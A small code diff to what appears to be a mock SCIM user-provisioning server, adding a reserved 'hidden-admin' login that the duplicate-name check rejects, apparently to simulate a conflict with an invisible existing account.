@@ -8,9 +8,13 @@ const SCIMMY = load("scimmy").default ?? load("scimmy");
 const SCIMMYRouters = load("scimmy-routers").default ?? load("scimmy-routers");
 const express = load("express");
 
+// An account that the service has and shows nobody.
+const HIDDEN = "hidden-admin";
+
 function store(type, login) {
     const all = new Map();
     const taken = (data, id) =>
+        data[login].toLowerCase() === HIDDEN ||
         [...all.values()].some((other) => other.id !== id && other[login].toLowerCase() === data[login].toLowerCase());
     SCIMMY.Resources.declare(type)
         .ingress((resource, data) => {
